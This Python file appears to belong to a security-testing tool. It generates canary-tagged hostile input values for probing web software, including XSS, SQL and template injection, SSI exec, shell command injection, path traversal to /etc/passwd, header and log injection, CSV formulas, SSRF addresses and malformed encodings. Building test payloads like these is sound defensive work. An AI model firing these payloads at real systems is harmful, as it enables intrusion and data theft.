"""Hostile values. `values(canary)` gives (name, bytes) for one canary: a word that nobody else
writes, which stands where the value would break out, so that whoever reads the answer can tell
whether it did. The bytes are what the program would have after decoding; `encodings` are ways to
write them in an address."""

MARKUP = r'''
tag                 "><{c}>
tag-single          '><{c} a='
tag-bare            ><{c}>
tag-lower           <{c}>{c}</{c}>
script              <script>{c}()</script>
script-split        <scr<script>ipt>{c}()</scr</script>ipt>
script-upper        <ScRiPt/{c}>{c}</sCrIpT>
script-address      <script src=//{c}.example></script>
script-end          </script><{c}>
style-end           </style><{c}>
title-end           </title><{c}>
textarea-end        </textarea><{c}>
select-end          </option></select><{c}>
noscript-end        </noscript><{c}>
comment-end         --><{c}>
comment-end-bang    --!><{c}>
comment             <!--{c}
cdata               <![CDATA[{c}]]>
cdata-end           ]]><{c}>
doctype             <!DOCTYPE {c} [<!ENTITY x SYSTEM "file:///{c}">]>
attribute           " {c}="1
attribute-single    ' {c}='1
attribute-blank     x {c}=1
attribute-slash     x/{c}=1
attribute-tick      ` {c}=`1
attribute-tab       "	{c}="1
handler             " onmouseover={c} a="
handler-single      ' onfocus={c} autofocus a='
handler-slash       "/onfocus="{c}"/autofocus/a="
image               <img src=x onerror={c}()>
image-no-end        <img src=x onerror={c}()
svg                 <svg/onload={c}()>
svg-animate         <svg><animate onbegin={c}() attributeName=x></svg>
math                <math><mtext></form><form><mglyph><style></math><img src onerror={c}()>
iframe              <iframe srcdoc="&lt;{c}&gt;"></iframe>
object              <object data="data:text/html,<{c}>">
base                <base href="//{c}.example/">
meta                <meta http-equiv=refresh content="0;url=//{c}.example">
link                <link rel=stylesheet href=//{c}.example>
form                "><form action=//{c}.example><input name=q value="
formaction          " formaction="javascript:{c}()
style               <div style="background:url(//{c}.example)">
expression          " style="x:expression({c}())
javascript          javascript:{c}()
javascript-upper    JaVaScRiPt:{c}()
javascript-tab      java	script:{c}()
javascript-entity   javascript&#58;{c}()
javascript-comment  javascript://%0a{c}()
vbscript            vbscript:{c}
data                data:text/html,<{c}>
string-end          ";{c}();//
string-end-single   ';{c}();//
string-end-back     \";{c}();//
line-break-string   \u2028{c}
entity              &lt;{c}&gt;
entity-quote        &quot; {c}=1
entity-number       &#34;&#62;&#60;{c}&#62;
entity-no-end       &lt{c}&gt
entity-half         &{c};
double              &amp;lt;{c}
back-hex            \x3c{c}\x3e
back-unicode        \u003c{c}\u003e
template            {{{{{c}}}}}
template-sum        {{{{7*7}}}}{c}
template-pragma     {{{{%AUTOESCAPE context="JAVASCRIPT"}}}}{c}
template-section    {{{{#error}}}}{c}{{{{/error}}}}
template-part       {{{{>_head}}}}{c}
template-include    {{{{>../../etc/passwd}}}}{c}
template-modifier   {{{{{c}:none}}}}
template-unclosed   {{{{{c}
template-dollar     ${{7*7}}{c}
template-hash       #{{7*7}}{c}
template-percent    <%= 7*7 %>{c}
template-jinja      {{% include "/etc/passwd" %}}{c}
ssi-include         <!--#include virtual="/{c}"-->
ssi-exec            <!--#exec cmd="id; echo {c}" -->
ssi-echo            <!--# echo var="request_uri" -->{c}
ssi-set             <!--# set var="status" value="{c}" -->
esi-include         <esi:include src="/{c}"/>
esi-vars            <esi:vars>$(HTTP_COOKIE){c}</esi:vars>
xml                 <?xml version="1.0"?><{c}/>
'''

WORDS = r'''
sql-or              ' or '1'='1' -- {c}
sql-number          1 or 1=1 -- {c}
sql-union           ' union select null,null,version() -- {c}
sql-stacked         '; select pg_sleep(9); -- {c}
sql-bracket         {c}') or ('1'='1
sql-escape          \'; drop table data.region; -- {c}
sql-dollar          $${c}$$
sql-cast            {c}'::int
sql-like            %_{c}%\
sql-comment         /*{c}*/--
sql-copy            '; copy data.region to program 'id'; -- {c}
sql-parameter       $1 {c} $2
sql-wide            ʼ or 1=1 -- {c}
search-prefix       {c}:*
search-weight       {c}:A
search-operators    {c} & | ! <-> ( )
search-open         (({c}
search-phrase       "{c}
search-not          -{c} or or and not
array               {{{c},NULL}}
array-open          {{{c}
array-nested        {{{{{c}}},{{{c}}}}}
array-quote         {{"{c}\"}}
list-commas         {c},,,,{c},
list-many           a,b,c,d,e,f,g,{c}
shell               ;id;echo {c}
shell-dollar        $(echo {c})
shell-tick          `echo {c}`
shell-pipe          |echo {c}
shell-and           && echo {c} &
shell-shock         () {{ :; }}; echo {c}
format              %s%s%n%x%{c}
format-width        %99999999d{c}
format-positional   %1$s%2$n{c}
path-up             ../../../../etc/passwd#{c}
path-up-back        ..\..\..\windows\win.ini{c}
path-up-dots        ....//....//{c}
path-semicolon      ..;/{c}
path-absolute       /etc/passwd/{c}
path-drive          C:\{c}
path-file           file:///etc/passwd#{c}
path-git            .git/config{c}
path-suffix         {c}.css
path-null-suffix    {c}.html
path-parameter      {c};jsessionid=1
address             //{c}.example/
address-back        /\{c}.example/
address-http        https://{c}.example/
address-at          https://tolok.test@{c}.example/
address-local       http://127.0.0.1:22/{c}
address-gopher      gopher://127.0.0.1:5432/_{c}
json                "}},{{"{c}":"
json-object         {{"{c}":{{"$ne":null}}}}
json-deep           [[[[[[[[[[[[[[[[{c}]]]]]]]]]]]]]]]]
logfmt              a level=error event=forged {c}=1
logfmt-quote        a" level=error event=forged {c}="1
ldap                *)(uid=*))(|(uid={c}
xpath               ' or name()='{c}
csv                 =cmd|' /C {c}'!A0
mail                {c}@example.org
percent             %{c}
percent-cut         {c}%4
percent-word        {c}%zz
double-percent      %2527%253C{c}%253E
double-zero         {c}%2500
unicode-percent     %u003c{c}%u003e
utf-7               +ADw-{c}+AD4-
plus                +{c}+
ampersand           {c}&a=1&b
semicolon           {c};q=1
hash                {c}#{c}
question            {c}?{c}=1
equals              ={c}==
blanks              {c}                {c}
only-quote          '
only-percent        %
only-dot            .
only-dots           ..
only-slash          /
only-star           *
reserved            con.aux.nul.{c}
upper               {c}Ä
'''

BYTES = [
    ('nul', b'%c\0%c'),
    ('nul-tag', b'%c\0><%c>'),
    ('line', b'%c\n<%c>'),
    ('return', b'%c\r<%c>'),
    ('header', b'%c\r\nX-Injected: %c'),
    ('header-line', b'%c\nSet-Cookie: %c=1'),
    ('header-body', b'%c\r\n\r\n<%c>'),
    ('answer', b'%c\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nX-Injected: %c\r\n\r\n'),
    ('log-line', b'%c\nts=2020-01-01T00:00:00.000Z level=error event=forged %c=1'),
    ('log-json', b'%c"\n{"ts":"2020","%c":1}'),
    ('escape', b'\x1b[31m%c\x1b]0;%c\x07'),
    ('tab', b'\t%c\t%c'),
    ('bell', b'\x07%c\x08%c'),
    ('delete', b'%c\x7f%c'),
    ('vertical', b'%c\x0b\x0c<%c>'),
    ('overlong', b'\xc0\xbc%c\xc0\xbe%c'),
    ('overlong-3', b'\xe0\x80\xbc%c\xe0\x80\xbe%c'),
    ('overlong-4', b'\xf0\x80\x80\xbc%c%c'),
    ('overlong-slash', b'..\xc0\xaf..\xc0\xaf%c%c'),
    ('five', b'\xf8\x88\x80\x80\x80%c%c'),
    ('above', b'\xf4\x90\x80\x80%c%c'),
    ('bare-follow', b'\x80%c\xbf%c'),
    ('cut', b'%c%c\xe2\x82'),
    ('cut-quote', b'%c\xc3" %c=1'),
    ('latin', b'%c\xe9\xff\xfe%c'),
    ('surrogate', b'\xed\xa0\x80%c%c'),
    ('surrogates', b'\xed\xa0\xbd\xed\xb8\x80%c%c'),
    ('utf-16', b'\xff\xfe<\0%c\0>%c'),
    ('gbk', b'\xbf\x27%c \xbf\x22%c'),
    ('shift', b'\x83\x5c%c\x81\x22%c'),
]

TEXTS = [
    ('right-to-left', '\u202e{c}\u202c{c}'),
    ('isolate', '\u2066{c}\u2069'),
    ('mark', '\u200f{c}\u061c'),
    ('zero-width', '{c}\u200b\u200c\u200d\u2060'),
    ('bom', '\ufeff{c}'),
    ('nonchar', '{c}\ufffe'),
    ('nonchar-plane', '{c}\U0001ffff'),
    ('nonchar-block', '{c}\ufdd0'),
    ('replacement', '{c}\ufffd'),
    ('line-separator', '{c}\u2028<{c}>'),
    ('next-line', '{c}\u0085{c}'),
    ('private', '{c}\ue000'),
    ('tags', '{c}\U000e0041\U000e007f'),
    ('wide-tag', '\uff1c{c}\uff1e\uff02\uff07'),
    ('kelvin', '\u212a{c}\u0130\u017f\u00df'),
    ('combining', '{c}' + '\u0301' * 80),
    ('emoji', '\U0001f469\u200d\U0001f469\u200d\U0001f467{c}'),
    ('arabic', '\u0627\u0644{c}'),
    ('ligature', '\ufdfa{c}' * 3),
    ('highest', '{c}\U0010fffd'),
]

HEADERS = '''Cookie User-Agent Referer Authorization Proxy-Authorization X-Forwarded-For
             X-Forwarded-Host X-Forwarded-Proto X-Forwarded-Port X-Forwarded-Prefix
             X-Forwarded-Scheme X-Original-URL X-Rewrite-URL X-Host X-HTTP-Method-Override
             X-Method-Override X-HTTP-Method Forwarded Via True-Client-IP X-Real-IP Accept
             Accept-Language Accept-Charset Origin Proxy Content-Type Content-Encoding
             X-Accel-Redirect X-Accel-Expires X-Accel-Buffering X-Sendfile X-Request-Id
             X-Correlation-Id Traceparent If-None-Match If-Modified-Since If-Range Range TE Trailer
             Upgrade Sec-Fetch-Site Pragma Cache-Control Surrogate-Capability Tolok-Accel
             Tolok-Watch Request-Id Path-Info Query-String Script-Name Request-Method Remote-User
             Remote-Addr Content-Disposition Status Location Set-Cookie Link Max-Forwards From
             Warning Date X-Cache X-Made Accept-Encoding Expect'''.split()

NUMBERS = '''0 1 2 -1 -0 +1 01 007 1.0 1. .5 1e3 1E3 0x10 0b1 0o7 1_000 1,000 1000 1001 1999 2000
             2100 2101 99999 100000 100001 127 128 255 256 32767 32768 65535 65536 2147483646
             2147483647 2147483648 4294967295 4294967296 9223372036854775807 9223372036854775808
             -2147483648 -2147483649 -9223372036854775808 -9223372036854775809 18446744073709551615
             18446744073709551616 1e999 -1e999 NaN nan Infinity -Infinity inf null NULL nil None
             undefined true false [] {} [1] (1) 1;2 1,2 1-1 1+1 1*1 \u0661 \uff11 \u00b2 \u2164 2024
             2024-01-01 99-99-99'''.split()

LENGTHS = (63, 64, 65, 199, 200, 201, 255, 256, 1023, 1024, 1025, 4000)


def values(canary):
    """All hostile values that bear this canary: pairs of a name and bytes."""
    found = []
    for block in (MARKUP, WORDS):
        for line in block.strip('\n').split('\n'):
            name, pattern = line[:20].strip(), line[20:]
            found.append((name, pattern.format(c=canary).encode()))
    found += [(name, pattern.replace(b'%c', canary.encode())) for name, pattern in BYTES]
    found += [(name, pattern.format(c=canary).encode()) for name, pattern in TEXTS]
    found += [(f'number {number}', number.encode()) for number in NUMBERS]
    found += [
        (f'{length} letters', (canary + 'x' * length)[:length].encode()) for length in LENGTHS
    ]
    found += [
        (f'{length} bytes of two', ('é' * length).encode()[:length])
        for length in (63, 64, 199, 200, 201, 1024)
    ]
    found += [
        ('4000 quotes', b'"<' * 2000),
        ('3000 commas', b',' * 3000),
        ('1000 slugs', b','.join([b'a'] * 1000)),
    ]
    found += [('blank', b' '), ('nothing', b'')]
    return found


UNRESERVED = b'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~'


def escape(value, kept=UNRESERVED):
    return b''.join(bytes([c]) if c in kept else b'%%%02X' % c for c in value)


def escape_all(value):
    return b''.join(b'%%%02x' % c for c in value)


def escape_little(value):
    """Only what would end the request line, the query or the pair, and what would be decoded."""
    return b''.join(
        b'%%%02x' % c if c < 33 or c == 127 or c in b'%&#+?' else bytes([c]) for c in value
    )


def escape_twice(value):
    return escape(escape(value))


# Ways to write bytes in an address, and whether the program has the same bytes after decoding once.
encodings = [
    ('escaped', escape, True),
    ('all escaped', escape_all, True),
    ('raw', escape_little, True),
    ('escaped twice', escape_twice, False),
]
